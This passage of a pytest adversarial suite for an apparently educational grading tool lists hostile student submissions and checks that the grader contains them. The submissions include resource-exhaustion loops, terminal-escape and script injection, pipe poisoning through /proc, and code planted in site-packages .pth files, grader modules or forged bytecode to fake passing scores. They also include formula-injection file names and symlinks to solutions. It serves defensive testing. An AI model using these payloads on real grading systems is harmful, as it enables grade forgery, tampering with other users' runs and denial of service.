    Attack("alarm_blocked_threads_spinning", "01_neuron", ['''
def sigmoid(z):
    for _ in range(4):
        threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})
    while True:
        pass
'''], ["sigmoid"], "resources"),
    Attack("loop_catching_base_exception", "01_neuron", ['''
def sigmoid(z):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
'''], ["sigmoid"], "resources"),
    Attack("loop_at_top_level_alarm_ignored", "01_neuron", [WRONG_WEIGHTED_SUM, '''
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    pass
'''], ["weighted_sum"], "resources"),
    Attack("exits_everywhere", "01_neuron", ['''
def weighted_sum(X, weights, bias):
    sys.exit(1)
def sigmoid(z):
    os._exit(3)
''', "sys.exit('bye')\n", "os._exit(0)\n"], ["weighted_sum", "sigmoid"], "resources"),
    Attack("crashes_the_interpreter", "01_neuron", ['''
def sigmoid(z):
    sys.setrecursionlimit(10**6)
    def down(n):
        return down(n + 1) + 1
    return down(0)
'''], ["sigmoid"], "resources"),

    # --- output: size, encodings, escapes, markup, the grader's terminal ----------------------
    Attack("huge_output", "01_neuron", ['''
def sigmoid(z):
    for _ in range(200):
        print("y" * 100_000)
    sys.stderr.write("e" * 5_000_000)
    return _wrong(z)
''', "print('x' * 50_000_000)\n"], ["sigmoid"], "output"),
    Attack("surrogates_and_escapes", "01_neuron", ['''
_EVIL = "\\ud800 \\udfff \\x1b[2J\\x1b]0;pwned\\x07 \\x9b31m \\x00 \\u202e end"
class _Evil(Exception):
    pass
_attempt("evil class name", lambda: setattr(_Evil, "__name__", "Evil\\x1b[31m\\ud800"))
_attempt("escapes in the name", lambda: setattr(_Evil, "__name__", "Evil\\x1b[31m"))
def weighted_sum(X, weights, bias):
    raise _Evil(_EVIL)
def sigmoid(z):
    print(_EVIL)
    return _wrong(z)
''', "raise ValueError(_EVIL)\n"], ["weighted_sum", "sigmoid"], "surrogates"),
    Attack("html_in_feedback", "01_neuron", ['''
def weighted_sum(X, weights, bias):
    raise ValueError("</pre><script>alert(1)</script><img src=x onerror=alert(2)>")
def sigmoid(z):
    print("<script>alert(3)</script></li></ol><img src=x onerror=alert(4)>")
    return _wrong(z)
'''], ["weighted_sum", "sigmoid"], "output"),
    Attack("writes_to_graders_terminal", "01_neuron", ['''
_disarm()
def sigmoid(z):
    grader = _grader()[0]
    for fd in (1, 2):
        for path in (f"/proc/{grader}/fd/{fd}", f"/dev/fd/{fd}", "/dev/tty"):
            def write():
                with open(path, "w") as handle:
                    handle.write(f"\\x1b[2J\\x1b]0;pwned\\x07PROOF{_M}: wrote to {path}\\n")
            _attempt("write " + path, write)
    return _wrong(z)
'''], ["sigmoid"], "terminal"),

    # --- a classmate's pipes, reached through the grader's /proc entry -----------------------
    Attack("poisons_classmates_pipes", "01_neuron", [SLOW_WRONG_WEIGHTED_SUM, '''
_disarm()
def _poison():
    grader = _grader()[0]
    while grader:
        for fd in _attempt("fds", lambda: os.listdir(f"/proc/{grader}/fd")) or []:
            path = f"/proc/{grader}/fd/{fd}"
            try:
                if os.readlink(path).startswith("pipe:"):
                    handle = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                    os.write(handle, b"000000000002{}")
                    os.close(handle)
            except OSError:
                pass
        time.sleep(0.05)
threading.Thread(target=_poison, daemon=True).start()
'''], ["weighted_sum"], "poison"),

    # --- what stays for later runs: the installed package, site-packages, bytecode ----------
    Attack("appends_to_suite_module", "02_loss", ['''
def squared_error(outputs, targets):
    return _wrong(outputs, targets)
_PAYLOAD = """
# appended by a submission
try:
    if "advx@@TOKEN@@" in open("/proc/self/cmdline", "rb").read().decode("utf-8", "replace"):
        open("/tmp/@@M@@-ran", "w").close()
        for _t in suite.tests:
            _t.run = lambda student, expect: None
except Exception:
    pass
"""
''', '''
import glob, nnlessons
_package = os.path.dirname(nnlessons.__file__)
for path in glob.glob(_package + "/grading/suites/ex03*.py") + \\
        glob.glob(_ROOT + "/instructor/**/*03*.py", recursive=True):
    if not _attempt("append", lambda: open(path, "a").write(_PAYLOAD)):
        _attempt("append via dir_fd", lambda: _write_outside(path, _PAYLOAD.encode(), append=True))
'''], ["squared_error"], "persist"),
    Attack("writes_pth_file", "01_neuron", [WRONG_WEIGHTED_SUM, '''
_PTH = """
import os, atexit, json
try:
    _cmd = open("/proc/self/cmdline", "rb").read().decode("utf-8", "replace")
except OSError:
    _cmd = ""
if "advx@@TOKEN@@" in _cmd and "nnlessons.cli" in _cmd:
    open("/tmp/@@M@@-ran", "w").close()
    def _forge(argv=_cmd.split(chr(0))):
        path = argv[argv.index("--json") + 1]
        data = json.load(open(path))
        for entry in data:
            entry["score"] = entry["max_score"]
            for test in entry["tests"]:
                test["score"], test["status"] = test["max_score"], "passed"
        open(path, "w").write(json.dumps(data))
    atexit.register(_forge)
"""
import site
_line = ("import sys; exec(" + repr(_PTH) + ")\\n").encode()
for folder in dict.fromkeys([p for p in sys.path if p.endswith("site-packages")] +
                            _attempt("site", site.getsitepackages) or []):
    if not _attempt("pth", lambda: open(f"{folder}/{_M}.pth", "wb").write(_line)):
        _attempt("pth via dir_fd", lambda: _write_outside(f"{folder}/{_M}.pth", _line))
'''], ["weighted_sum"], "persist"),
    Attack("appends_to_report_module", "01_neuron", [WRONG_SIGMOID, '''
import nnlessons.grading.report as _report
_PAYLOAD = """
# appended by a submission
try:
    if "advx@@TOKEN@@" in open("/proc/self/cmdline", "rb").read().decode("utf-8", "replace"):
        open("/tmp/@@M@@-ran", "w").close()
        _real_write_json = write_json
        def write_json(submissions, path):
            for s in submissions:
                for t in s.tests:
                    t.status = "passed"
            return _real_write_json(submissions, path)
except Exception:
    pass
"""
if not _attempt("append", lambda: open(_report.__file__, "a").write(_PAYLOAD)):
    _attempt("append via dir_fd",
             lambda: _write_outside(_report.__file__, _PAYLOAD.encode(), append=True))
'''], ["sigmoid"], "persist"),
    Attack("forges_cached_bytecode", "01_neuron", ['''
def layer_forward(X, weights, biases):
    return _wrong(X, weights, biases)
_PAYLOAD = """
try:
    if "advx@@TOKEN@@" in open("/proc/self/cmdline", "rb").read().decode("utf-8", "replace"):
        open("/tmp/@@M@@-ran", "w").close()
        from . import report as _report
        _real = _report.write_json
        def _forged(submissions, path):
            for s in submissions:
                for t in s.tests:
                    t.status = "passed"
            return _real(submissions, path)
        _report.write_json = _forged
except Exception:
    pass
"""
def _forge_bytecode():
    import importlib.util, importlib._bootstrap_external as external, nnlessons
    source = os.path.join(os.path.dirname(nnlessons.__file__), "grading", "cli.py")
    code = compile(_read(source).decode() + _PAYLOAD, source, "exec")
    info = os.stat(source)
    data = external._code_to_timestamp_pyc(code, int(info.st_mtime), info.st_size)
    target = importlib.util.cache_from_source(source)
    if not _attempt("write pyc", lambda: open(target, "wb").write(data)):
        _write_outside(target, bytes(data))
_attempt("forge", _forge_bytecode)
'''], ["layer_forward"], "persist"),

    # --- names and files: formulas, escapes, bytes, symlinks, devices, parser bombs ----------
    Attack("formula_as_name", "01_neuron", [WRONG_WEIGHTED_SUM], ["weighted_sum"], "files",
           student='=HYPERLINK("x")+@@M@@'),
    Attack("plus_formula_as_name", "01_neuron", [WRONG_WEIGHTED_SUM], ["weighted_sum"],
           "files", student="+1-1_@@M@@"),
    Attack("escapes_in_name", "01_neuron", [WRONG_WEIGHTED_SUM], ["weighted_sum"], "files",
           student="m_esc\x1b]0;pwned\x07\x1b[2J_@@M@@"),
    Attack("newline_and_quotes_in_name", "01_neuron", [WRONG_WEIGHTED_SUM], ["weighted_sum"],
           "files", student='m_new\nline,"q"_@@M@@'),
    Attack("bytes_in_name", "01_neuron", [WRONG_WEIGHTED_SUM], ["weighted_sum"], "bytes_name",
           student=b"m_bad\xff\xfe_@@M@@"),
    Attack("symlink_to_solution", "01_neuron", [], "all", "files",
           layout=symlink_layout(adv.ROOT / "solutions" / "01_neuron.ipynb"), absent_ok=True),
    Attack("symlinked_folder", "01_neuron", [], "all", "files", layout=symlinked_folder,
           absent_ok=True),
    Attack("link_to_dev_zero", "01_neuron", [], "all", "dev_zero", layout=flat_link_to_dev_zero,
           absent_ok=True),
    # alone in their batches: the grader's memory is measured per run
    Attack("parser_bombs", "01_neuron", [WRONG_SIGMOID,
                                         "x = [" + "0," * 1_500_000 + "]\n",
                                         "y = " + "-" * 100_000 + "1\n",
                                         "w = " + "(" * 1000 + ")" * 1000 + "\n"],
           ["sigmoid"], "parser"),
    Attack("fifo_notebook", "01_neuron", [], "all", "fifo", layout=flat_fifo, absent_ok=True),
]
for number, attack in enumerate(ATTACKS):
    attack.index = number

BATCHES = {}
for attack in ATTACKS:
    BATCHES.setdefault(attack.batch, []).append(attack)
OPTIONS = {"persist": {"second": True, "late": ("03_derivative",)},
           "fifo": {"deadline": 60}}
_outcomes = {}


def outcome_of(batch):
    reason = adv.grading_unavailable()
    if reason:
        pytest.skip(f"nnlessons grade refuses to grade on this machine: {reason}")
    if batch not in _outcomes:
        _outcomes[batch] = adv.run_batch(batch, BATCHES[batch], **OPTIONS.get(batch, {}))
    return _outcomes[batch]


@pytest.fixture(scope="module", autouse=True)
def linux_only():
    import sys
    if not sys.platform.startswith("linux"):
        pytest.skip("the adversarial suite needs Linux (/proc, namespaces, a subreaper)")


def test_the_table_is_sound():
    names = [a.name for a in ATTACKS]
    assert len(names) == len(set(names)), "attack names must be unique"
    assert len(ATTACKS) >= 40
    for attack in ATTACKS:
        assert attack.loses == "all" or attack.loses, f"{attack.name} sabotages nothing"


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_attack_is_contained(attack):
    problems = judge(outcome_of(attack.batch), attack)
    assert not problems, f"{attack.name} ({attack.batch}):\n  " + "\n  ".join(problems)


@pytest.mark.parametrize("batch", sorted(BATCHES))
def test_batch_leaves_no_temporary_folders(batch):
    outcome = outcome_of(batch)
    left = outcome.run.grader_tmp + (outcome.second.grader_tmp if outcome.second else [])
    assert not left, f"the grader left these in its TMPDIR: {left}"
